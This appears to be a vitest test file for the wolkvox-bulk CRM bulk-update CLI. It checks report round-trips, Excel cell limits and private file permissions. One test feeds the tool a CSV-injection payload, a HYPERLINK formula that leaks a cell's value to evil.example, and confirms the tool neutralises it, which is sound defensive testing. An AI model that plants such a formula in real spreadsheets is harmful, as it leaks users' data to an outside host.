import fs from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { fixture, mockServer, runCli, tempDir, TOKEN } from '../helpers.js';
import { readAll } from '../input/read-all.js';

const env = (server: string) => ({ WOLKVOX_TOKEN: TOKEN, WOLKVOX_SERVER: server });

/** Rows of a file as our reader sees them: values by column. */
async function valuesOf(file: string, options: { sheet?: string; headerRow?: number } = {}) {
  const { rows } = await readAll({ file, ...options });
  return rows.map((row) => row.values);
}

/** A folder with an input file (copied or written) and a mapping of its id and one or more columns. */
function job(input: { copy?: string; text?: string; name?: string }, id: string, fields: Record<string, string>) {
  const dir = tempDir();
  const file = path.join(dir, input.name ?? path.basename(input.copy ?? 'datos.csv'));
  if (input.copy) fs.copyFileSync(input.copy, file);
  else fs.writeFileSync(file, input.text ?? '');
  const mapping = path.join(dir, 'm.json');
  fs.writeFileSync(mapping, JSON.stringify({ operation: 'op', module: 'contacts', id, fields }));
  return { dir, file, mapping, out: path.join(dir, 'run') };
}

// Excel's Alt+Enter puts a bare LF in a cell; old Mac files a bare CR. Written by hand: these are the bytes.
const BARE_BREAKS = 'id,Nombre,Nota\r\nr1,"Ana\nMaría",uno\r\nr2,Luis,"dos\rtres"\r\nr3,"Eva\r\nSol","a\nb\rc"\r\n';

describe('reports: a cell with a line break stays one cell (issue 10, item 1)', () => {
  it.each([
    ['quoted-newlines.csv (LF, CRLF and an empty line inside cells)', { copy: fixture('csv', 'quoted-newlines.csv') }, 'wolkvox-id', { Nombre: 'Nombre', Dirección: 'Dirección' }],
    ['bare LF and bare CR inside cells', { text: BARE_BREAKS }, 'id', { Nombre: 'Nombre', Nota: 'Nota' }],
  ])('results.csv, results.xlsx and failed.csv read back with the same rows and values: %s', async (_name, input, id, fields) => {
    // Every id unknown: every row fails, so failed.csv holds them all.
    const server = await mockServer({ knownIds: [] });
    const files = job(input, id, fields);
    const result = await runCli(['update', files.file, '-m', files.mapping, '--out', files.out, '--report-format', 'xlsx', '--max-failure-rate', '0', '--yes'], { env: env(server.url) });
    expect(result.code, result.stderr).toBe(1);
    const original = await valuesOf(files.file);

    // An independent parser counts the records: one per input row, plus the header.
    const results = parse(fs.readFileSync(path.join(files.out, 'results.csv')), { bom: true, relax_column_count: false }) as string[][];
    expect(results).toHaveLength(original.length + 1);
    const failedText = fs.readFileSync(path.join(files.out, 'failed.csv'));
    expect(parse(failedText, { bom: true }) as string[][]).toHaveLength(original.length + 1);

    // And our own readers give back every value exactly: the files can be fed back in.
    expect(await valuesOf(path.join(files.out, 'failed.csv'))).toEqual(original);
    expect(await valuesOf(path.join(files.out, 'results.csv'))).toEqual(original);
    expect(await valuesOf(path.join(files.out, 'results.xlsx'), { sheet: 'results' })).toEqual(original);

    // Fed back with the same mapping, failed.csv passes the check with the same rows.
    const again = await runCli(['validate', path.join(files.out, 'failed.csv'), '-m', files.mapping, '--json']);
    expect(again.code, again.stderr).toBe(0);
    expect(JSON.parse(again.stdout)).toMatchObject({ rows: original.length, invalid: 0 });
  });

  it('failed.xlsx of a workbook reads back with the same values (openpyxl fixture)', async () => {
    const server = await mockServer({ knownIds: [] });
    const files = job({ copy: fixture('xlsx', 'openpyxl-clientes.xlsx') }, 'wolkvox-id', { Nombre: 'Nombre' });
    const result = await runCli(['update', files.file, '-m', files.mapping, '--out', files.out, '--sheet', 'Clientes', '--header-row', '3', '--max-failure-rate', '0', '--yes'], { env: env(server.url) });
    expect(result.code, result.stderr).toBe(1);
    const original = await valuesOf(files.file, { sheet: 'Clientes', headerRow: 3 });
    expect(original.length).toBeGreaterThan(3);
    expect(await valuesOf(path.join(files.out, 'failed.xlsx'), { sheet: 'Clientes', headerRow: 3 })).toEqual(original);
  });
});

/** A hostile CRM: every update is refused with a message that is a live spreadsheet formula. */
async function formulaServer(message: string) {
  const server = http.createServer((request, response) => {
    request.resume();
    request.on('end', () => {
      response.writeHead(400, { 'Content-Type': 'application/json' });
      response.end(JSON.stringify({ code: 400, error: 'BAD REQUEST', msg: message }));
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, close: () => new Promise<void>((resolve) => server.close(() => resolve())) };
}

describe('reports: no live formula in a CSV report (issue 10, item 2)', () => {
  const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
  const CELLS = ['@SUM(1+1)', '=1+1', "'=already quoted", '-12', '+57 300 123 4567', 'plain'];

  it('neutralises the CRM message and formula-like input cells in failed.csv and results.csv, and reads them back as typed', async () => {
    const server = await formulaServer(FORMULA);
    try {
      const text = ['id,Nota', ...CELLS.map((cell, index) => `r${index},"${cell.replaceAll('"', '""')}"`)].join('\r\n');
      const files = job({ text: `${text}\r\n` }, 'id', { Nota: 'Nota' });
      const result = await runCli(['update', files.file, '-m', files.mapping, '--out', files.out, '--max-failure-rate', '0', '--retries', '0', '--yes'], { env: env(server.url) });
      expect(result.code, result.stderr).toBe(1);
      for (const name of ['failed.csv', 'results.csv']) {
        const records = parse(fs.readFileSync(path.join(files.out, name)), { bom: true, columns: true }) as Record<string, string>[];
        const message = name === 'failed.csv' ? '_wvx_error' : '_wvx_message';
        // No cell a spreadsheet would run: the tool's own columns and the input's cells alike.
        for (const record of records) {
          expect(record[message]).toBe(`'${FORMULA}`);
          expect(record.Nota).not.toMatch(/^[=+@]/);
        }
        expect(records.map((record) => record.Nota)).toEqual(["'@SUM(1+1)", "'=1+1", "''=already quoted", '-12', "'+57 300 123 4567", 'plain']);
        // Fed back, the input's cells are exactly what the user typed.
        expect((await valuesOf(path.join(files.out, name))).map((values) => values.Nota)).toEqual(CELLS);
      }
    } finally {
      await server.close();
    }
  });
});

describe('reports: Excel cell limit and privacy (issue 10, items 10 and 21)', () => {
  it('cuts a text longer than Excel allows in results.xlsx, with a marker, and writes the workbook private (0600)', async () => {
    const server = await mockServer();
    const long = 'x'.repeat(40_000);
    const files = job({ text: `id,Nombre,Nota\r\nr1,Ana,${long}\r\n` }, 'id', { Nombre: 'Nombre' });
    const result = await runCli(['update', files.file, '-m', files.mapping, '--out', files.out, '--report-format', 'xlsx', '--yes'], { env: env(server.url) });
    expect(result.code, result.stderr).toBe(0);
    const workbook = path.join(files.out, 'results.xlsx');
    expect(fs.statSync(workbook).mode & 0o777).toBe(0o600);
    const [row] = await valuesOf(workbook, { sheet: 'results' });
    const cell = String(row?.Nota);
    expect(cell).toHaveLength(32_767);
    expect(cell).toMatch(/… \[cut by wolkvox-bulk: 40000 characters in all\]$/);
    // The CSV report keeps the whole text: only the workbook has the limit.
    expect((await valuesOf(path.join(files.out, 'results.csv')))[0]?.Nota).toBe(long);
    // No temporary file is left behind.
    expect(fs.readdirSync(files.out).filter((name) => name.endsWith('.tmp'))).toEqual([]);
  });
});
